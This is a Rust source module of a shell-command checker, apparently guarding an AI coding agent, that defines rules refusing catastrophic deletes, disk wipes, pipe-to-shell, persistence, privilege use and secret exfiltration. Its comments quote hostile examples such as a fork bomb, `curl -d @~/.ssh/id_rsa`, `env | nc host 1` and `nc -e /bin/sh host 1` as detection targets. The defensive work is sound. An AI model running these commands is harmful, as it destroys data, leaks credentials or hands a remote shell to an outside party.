//! The builtin rules: what each refuses and why, judged over a parsed [`Script`].
//!
//! Each rule looks at one simple command (after wrappers such as `sudo` or `xargs` are peeled
//! off), a redirection, or the script's functions and loops, and reports [`Finding`]s. Command
//! strings that another shell will run (`bash -c`, `eval`, a heredoc fed to `sh`, …) are handed
//! back as [`Nested`] scripts for the caller to check in turn.

mod admin;
mod awk;
mod container;
mod delete;
mod destroy;
mod download;
mod exec;
mod exfil;
mod fanout;
mod git;
mod git_work;
mod globs;
mod infra;
mod interp;
mod persistence;
mod system;
mod unknown;

use super::CommandPolicy;
use super::argv::{self, Invocation};
use super::script::{Cwd, Env, Script, SimpleCommand, Word};

/// Longest piece of a command quoted in a refusal; longer ones are cut.
const MAX_QUOTED_CHARS: usize = 120;

/// The builtin rules. Some guard against losses nothing can undo and cannot be allowed in
/// settings ([`Rule::overridable`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Rule {
    /// A recursive delete of `/`, a top-level directory, the home directory, a directory that
    /// holds the project, or a system directory.
    CatastrophicDelete,
    /// A self-replicating process (`:(){ :|:& };:`).
    ForkBomb,
    /// Writing to, formatting or wiping a disk device (`mkfs /dev/sda`, `dd of=/dev/sda`).
    DiskWipe,
    /// A recursive permission change of `/`, home or a system directory.
    SystemPermissions,
    /// A recursive delete outside the project, of the whole project, of `.git`, or of a
    /// target that cannot be known.
    RecursiveDelete,
    /// A recursive permission change outside the project.
    RecursivePermissions,
    /// Formatting or partitioning something that is not a device (an image file).
    DiskFormat,
    /// Shutting down, rebooting, suspending, or signalling every process (`kill -9 -1`,
    /// `pkill -f .`, `pkill -u ann`).
    Power,
    /// Running downloaded (or decoded) text as code (`curl … | sh`).
    PipeToShell,
    /// Writing into a system directory (`/etc`, `/boot`, `/usr`, …).
    SystemWrite,
    /// A force push or delete of a protected branch.
    ForcePush,
    /// Throwing away local git work: uncommitted changes (`git reset --hard`,
    /// `git checkout -- f`), untracked files (`git clean -f`), stashes, branches, the reflog.
    DiscardGitWork,
    /// Administering the machine: firewall, kernel modules and settings, users, mounts, swap,
    /// system services and daemons (`iptables -F`, `modprobe`, `userdel`, `sysctl -w`,
    /// `mount`, `swapoff`, `systemctl stop`, `killall sshd`).
    SystemAdmin,
    /// Destroying infrastructure or data outside the project: Docker volumes, Terraform and
    /// Pulumi stacks, Kubernetes objects, cloud storage and resources, databases
    /// (`docker volume prune`, `terraform destroy`, `kubectl delete`, `DROP TABLE`).
    InfraDestroy,
    /// Writing what the user's tools later run or trust on their own: shell startup files,
    /// SSH keys, credentials, autostart entries, `git config --global`, a crontab.
    Persistence,
    /// Destroying a single file outside the project: `shred`, `truncate`, `rm ~/file`,
    /// `> ~/file`, clearing the shell's history.
    FileDestroy,
    /// Running as another user (`sudo`, `doas`, `su`).
    Privilege,
    /// Sending secrets over the network (`curl -d @~/.ssh/id_rsa`, `env | nc host 1`), or
    /// handing a shell to it (`nc -e /bin/sh host 1`).
    Exfiltration,
    /// Command strings nested deeper than the checker follows.
    Nesting,
    /// The command could not be parsed at all.
    Unparsable,
    /// A command word assembled by word splitting (`c="rm -rf x"; $c`, or after `IFS=…`):
    /// what runs is only known when it runs.
    WordSplitting,
    /// Running command text that cannot be known: an unknown value run as code (`eval "$X"`,
    /// `bash -c "$c"`, awk's `system($0)`) or a command word read from a file or input
    /// (`c=$(cat cmd.txt); $c`, `read -r c; $c`).
    UnknownCode,
    /// A `[bash] deny` rule of the settings.
    Denied,
}

impl Rule {
    /// The rule's stable name, shown to the model.
    pub fn id(self) -> &'static str {
        match self {
            Rule::CatastrophicDelete => "catastrophic-delete",
            Rule::ForkBomb => "fork-bomb",
            Rule::DiskWipe => "disk-wipe",
            Rule::SystemPermissions => "system-permissions",
            Rule::RecursiveDelete => "recursive-delete",
            Rule::RecursivePermissions => "recursive-permissions",
            Rule::DiskFormat => "disk-format",
            Rule::Power => "power",
            Rule::PipeToShell => "pipe-to-shell",
            Rule::SystemWrite => "system-write",
            Rule::ForcePush => "force-push",
            Rule::DiscardGitWork => "discard-git-work",
            Rule::SystemAdmin => "system-admin",
            Rule::InfraDestroy => "infra-destroy",
            Rule::Persistence => "persistence",
            Rule::FileDestroy => "file-destroy",
            Rule::Privilege => "privilege",
            Rule::Exfiltration => "exfiltration",
            Rule::Nesting => "nesting",
            Rule::Unparsable => "unparsable",
            Rule::WordSplitting => "word-splitting",
            Rule::UnknownCode => "unknown-code",
            Rule::Denied => "denied",
        }
    }

    /// Whether an `allow` rule of the settings can let the command through.
    pub fn overridable(self) -> bool {
        !matches!(
            self,
            Rule::CatastrophicDelete
                | Rule::ForkBomb
                | Rule::DiskWipe
                | Rule::SystemPermissions
                | Rule::Denied
        )
    }

    /// What to do instead, unless a finding says something more specific.
    fn instead(self) -> &'static str {
        match self {
            Rule::CatastrophicDelete | Rule::RecursiveDelete => {
                "delete only what you mean to, by its path inside the project (e.g. `rm -rf target`)"
            }
            Rule::ForkBomb => {
                "to run work in parallel, start a bounded number of processes (e.g. `xargs -P 4`)"
            }
            Rule::DiskWipe | Rule::DiskFormat => {
                "work on an image file inside the project (e.g. `dd if=/dev/zero of=./disk.img \
                 bs=1M count=10`); real disks are for the user to handle"
            }
            Rule::SystemPermissions | Rule::RecursivePermissions => {
                "change permissions only of files inside the project (e.g. `chmod +x script.sh`)"
            }
            Rule::Power => {
                "leave the machine's power state to the user; to stop a process you started, \
                 kill it by its PID"
            }
            Rule::PipeToShell => {
                "download to a file inside the project (e.g. `curl -fsSL URL -o install.sh`), \
                 Read it, and run it only if it is safe"
            }
            Rule::SystemWrite => {
                "write inside the project (or under /tmp); system files are for the user to change"
            }
            Rule::ForcePush => {
                "push your work to a branch of its own (e.g. `git push --force-with-lease origin \
                 my-branch`) and let the user merge it"
            }
            Rule::DiscardGitWork => {
                "keep the work: commit it or `git stash` it first, or ask the user to run the \
                 command"
            }
            Rule::SystemAdmin => {
                "leave the machine's configuration to the user: give them the command to run \
                 themselves"
            }
            Rule::InfraDestroy => {
                "leave destroying infrastructure and data to the user: give them the command to \
                 run themselves (and work on a local or throwaway copy meanwhile)"
            }
            Rule::Persistence => {
                "keep settings inside the project (e.g. `.envrc`, `.git/config`, `.npmrc` in the \
                 project); give the user the line to add to their own files"
            }
            Rule::FileDestroy => {
                "write inside the project or under /tmp; leave files outside the project to the \
                 user"
            }
            Rule::Privilege => {
                "run the command without sudo; if it really needs root, give the user the command \
                 to run themselves"
            }
            Rule::Exfiltration => {
                "keep secrets on this machine: send only the data you mean to (e.g. `curl -d \
                 @payload.json URL`), and credentials only in the header the service expects"
            }
            Rule::Nesting => "run the innermost command directly",
            Rule::Unparsable => "simplify the command into plain commands joined by `&&`",
            Rule::WordSplitting => {
                "write the command out word by word (e.g. `rm -rf build`) instead of assembling \
                 it from a variable"
            }
            Rule::UnknownCode => {
                "write out the command you mean to run (Read the file first if it holds \
                 commands) instead of running text that is only known when it runs"
            }
            Rule::Denied => "do it another way, or ask the user",
        }
    }
}

/// One thing a rule refuses.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Finding {
    /// The rule.
    pub rule: Rule,
    /// What the command would do, quoting it.
    pub reason: String,
    /// What to do instead.
    pub instead: String,
    /// The texts an `allow` rule is matched against: the command as written and as words.
    pub sources: Vec<String>,
}

impl Finding {
    /// A finding with the rule's usual advice.
    pub fn new(rule: Rule, reason: String, sources: Vec<String>) -> Self {
        Self {
            rule,
            reason,
            instead: rule.instead().to_string(),
            sources,
        }
    }

    /// This finding as the verdict `decision`.
    pub fn verdict(&self, decision: super::Decision) -> super::Verdict {
        super::Verdict {
            decision,
            rule: self.rule.id(),
            reason: self.reason.clone(),
            instead: self.instead.clone(),
        }
    }

    fn instead(mut self, instead: &str) -> Self {
        self.instead = instead.to_string();
        self
    }
}

/// A command string another shell will run, to be checked in turn.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Nested {
    /// The script.
    pub text: String,
    /// Where it runs.
    pub cwd: Cwd,
    /// The unknown values (`$X`, `${c}`) the handing shell pastes into the text, as written
    /// there: run as code, they are unknown code.
    pub spliced: Vec<String>,
}

/// What the rules found in one script.
#[derive(Debug, Clone, Default)]
pub(crate) struct Report {
    /// Everything refused.
    pub findings: Vec<Finding>,
    /// Scripts to check next.
    pub nested: Vec<Nested>,
}

/// What a rule sees of one command.
struct Site<'a> {
    script: &'a Script,
    command: &'a SimpleCommand,
    /// The command once wrappers are peeled off.
    invocation: Invocation<'a>,
    env: Env<'a>,
    policy: &'a CommandPolicy,
}

impl Site<'_> {
    /// The command as quoted in a refusal.
    fn quoted(&self) -> String {
        quote(&self.command.text)
    }

    /// The texts `allow` rules are matched against (see [`Finding::sources`]).
    fn sources(&self) -> Vec<String> {
        vec![
            self.command.text.clone(),
            words_text(&self.command.argv),
            words_text(self.invocation.argv),
        ]
    }

    /// The invocation's words after the program.
    fn args(&self) -> &[Word] {
        self.invocation.argv.get(1..).unwrap_or(&[])
    }

    fn find(&self, report: &mut Report, rule: Rule, reason: String) {
        report
            .findings
            .push(Finding::new(rule, reason, self.sources()));
    }

    fn nest(&self, report: &mut Report, word: &Word) {
        let spliced = match word.dynamic {
            true => unknown::spliced_variables(&word.raw),
            false => Vec::new(),
        };
        for text in &word.values {
            report.nested.push(Nested {
                text: text.clone(),
                cwd: self.command.cwd.clone(),
                spliced: spliced.clone(),
            });
        }
    }
}

/// `text` on one line, cut to [`MAX_QUOTED_CHARS`], in backticks.
pub(crate) fn quote(text: &str) -> String {
    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() <= MAX_QUOTED_CHARS {
        format!("`{line}`")
    } else {
        let cut: String = line.chars().take(MAX_QUOTED_CHARS).collect();
        format!("`{cut}…`")
    }
}

/// The words' first values joined by spaces: how the command reads once unquoted.
pub(crate) fn words_text(words: &[Word]) -> String {
    words.iter().map(Word::text).collect::<Vec<_>>().join(" ")
}

/// Runs every rule over `script`.
pub(crate) fn check(script: &Script, env: Env<'_>, policy: &CommandPolicy) -> Report {
    let mut report = Report::default();
    for command in &script.commands {
        let site = Site {
            script,
            command,
            invocation: argv::unwrap(&command.argv),
            env,
            policy,
        };
        check_command(&site, &mut report);
    }
    for redirect in &script.redirects {
        system::redirect(redirect, &mut report);
        persistence::redirect(redirect, env, &mut report);
        destroy::redirect(redirect, env, &mut report);
    }
    exec::fork_bombs(script, &mut report);
    download::downloaded_then_run(script, &mut report);
    destroy::history_off(script, &mut report);
    report
}

fn check_command(site: &Site<'_>, report: &mut Report) {
    if let Some(wrapper) = &site.invocation.privileged {
        site.find(
            report,
            Rule::Privilege,
            format!(
                "{} runs as another user (through `{wrapper}`).",
                site.quoted()
            ),
        );
    }
    for script in &site.invocation.scripts {
        exec::nested(site, script, report);
    }
    exec::pipe_input(site, report);
    fanout::command(site, report);
    exfil::opened_socket(site, report);
    let Some(first) = site.invocation.argv.first() else {
        return;
    };
    exec::split_command_word(site, first, report);
    unknown::unknown_code(site, first, report);
    let Some(program) = argv::program(first) else {
        exec::unknown_program(site, first, report);
        delete::unknown_program(site, first, report);
        return;
    };
    match program {
        "rm" => delete::rm(site, report),
        "find" => delete::find(site, report),
        "rsync" => delete::rsync(site, report),
        "mv" => delete::mv(site, report),
        "chmod" | "chown" | "chgrp" => delete::permissions(site, report),
        "git" => {
            if let Some(command) = git::subcommand(site.args()) {
                git::push(site, &command, report);
                git::aliases(site, &command, report);
                git_work::discard(site, &command, report);
                persistence::git_config(site, &command, report);
            }
        }
        _ => {}
    }
    system::command(site, program, report);
    admin::command(site, program, report);
    infra::command(site, program, report);
    persistence::command(site, program, report);
    destroy::command(site, program, report);
    exfil::command(site, program, report);
    container::command(site, program, report);
    exec::command(site, program, report);
}

#[cfg(test)]
mod tests_blind;
#[cfg(test)]
mod tests_blind2;
#[cfg(test)]
mod tests_issue12;
#[cfg(test)]
mod tests_more;
